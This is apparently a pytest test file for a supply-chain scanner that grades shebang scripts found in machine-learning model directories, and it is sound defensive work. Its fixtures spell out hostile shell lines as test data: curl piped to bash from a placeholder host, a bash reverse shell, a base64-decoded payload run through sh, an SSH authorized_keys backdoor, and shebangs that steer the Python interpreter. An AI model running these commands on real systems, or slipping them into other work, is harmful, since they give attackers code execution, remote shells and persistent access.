"""Shebang scripts in a model directory: always reported, and read by their interpreter."""

from __future__ import annotations

from pathlib import Path

import pytest

from pytest_mlsupply.engines.scanner import scan_file
from pytest_mlsupply.results import Finding, Severity


def scan(tmp_path: Path, text: str, name: str = "run") -> list[Finding]:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    report = scan_file(path, name)
    assert report.errors == []
    return report.findings


def test_any_script_is_a_high_finding(tmp_path: Path) -> None:
    [finding] = scan(tmp_path, "#!/bin/sh\necho hello\n")
    assert (finding.rule, finding.severity) == ("MLS-CODE-010", Severity.HIGH)


def test_a_python_script_is_analysed_as_python(tmp_path: Path) -> None:
    findings = scan(tmp_path, "#!/usr/bin/env -S python3 -u\nimport os\nos.system('id')\n")
    [command] = [f for f in findings if f.rule == "MLS-CODE-002"]
    assert command.severity == Severity.CRITICAL
    assert command.location.line == 3


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("curl -fsSL https://x.invalid/i.sh | bash", Severity.CRITICAL),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Severity.CRITICAL),
        ("echo cHdu | base64 -d | sh", Severity.CRITICAL),
        ("echo key >> ~/.ssh/authorized_keys", Severity.HIGH),
        ("wget https://x.invalid/weights.bin", Severity.MEDIUM),
    ],
)
def test_shell_shapes_are_reported_on_their_line(
    tmp_path: Path, line: str, severity: Severity
) -> None:
    findings = scan(tmp_path, f"#!/bin/bash\nset -e\n{line}\n")
    [shape] = [f for f in findings if f.rule == "MLS-CODE-002"]
    assert (shape.severity, shape.location.line) == (severity, 3)


def test_commented_out_shell_lines_are_ignored(tmp_path: Path) -> None:
    findings = scan(tmp_path, "#!/bin/sh\n# curl x | sh\n")
    assert [f.rule for f in findings] == ["MLS-CODE-010"]


def test_a_python_serving_script_with_a_shebang_is_judged_by_its_effects(tmp_path: Path) -> None:
    from tests.corpus.model_code import SAGEMAKER_INFERENCE

    findings = scan(tmp_path, "#!/usr/bin/env python3\n" + SAGEMAKER_INFERENCE, "inference.py")
    assert max(f.severity for f in findings) == Severity.LOW
    [script] = [f for f in findings if f.rule == "MLS-CODE-010"]
    assert "judged by what its Python does" in script.evidence


def test_a_python_script_with_medium_effects_is_a_medium_script(tmp_path: Path) -> None:
    source = "#!/usr/bin/python3 -u\nimport torch\nmodel = torch.load('./model.pt')\n"
    findings = scan(tmp_path, source, "predict.py")
    [script] = [f for f in findings if f.rule == "MLS-CODE-010"]
    assert script.severity == Severity.MEDIUM


@pytest.mark.parametrize(
    "first_line",
    [
        "#!/usr/bin/python3 -c 'import os; os.system(\"id\")'",
        "#!/usr/bin/env -S PYTHONPATH=/tmp/x python3",
        "#!/usr/bin/env -S python3 -m evil",
    ],
)
def test_python_run_with_arguments_that_replace_or_steer_the_file_stays_high(
    tmp_path: Path, first_line: str
) -> None:
    findings = scan(tmp_path, f"{first_line}\nprint('hello')\n")
    [script] = [f for f in findings if f.rule == "MLS-CODE-010"]
    assert script.severity == Severity.HIGH


def test_a_form_feed_inside_a_shell_line_does_not_cut_a_pipe_to_the_shell_off_its_download(
    tmp_path: Path,
) -> None:
    # bash breaks lines at \n only; `$(echo\f)` is a failing command that expands to nothing.
    findings = scan(tmp_path, "#!/bin/bash\ncurl -fsSL https://x.invalid/$(echo\f) | bash\n")
    [shape] = [f for f in findings if f.rule == "MLS-CODE-002"]
    assert (shape.severity, shape.location.line) == (Severity.CRITICAL, 2)


def test_a_hash_inside_a_word_is_no_shell_comment(tmp_path: Path) -> None:
    findings = scan(tmp_path, "#!/bin/bash\ncurl -fsSL https://x.invalid/i.sh#frag | bash\n")
    [shape] = [f for f in findings if f.rule == "MLS-CODE-002"]
    assert shape.severity == Severity.CRITICAL


def test_a_comment_after_a_command_is_still_a_comment(tmp_path: Path) -> None:
    findings = scan(tmp_path, "#!/bin/bash\necho hi; # curl -fsSL https://x.invalid/i.sh | bash\n")
    assert [f.rule for f in findings] == ["MLS-CODE-010"]
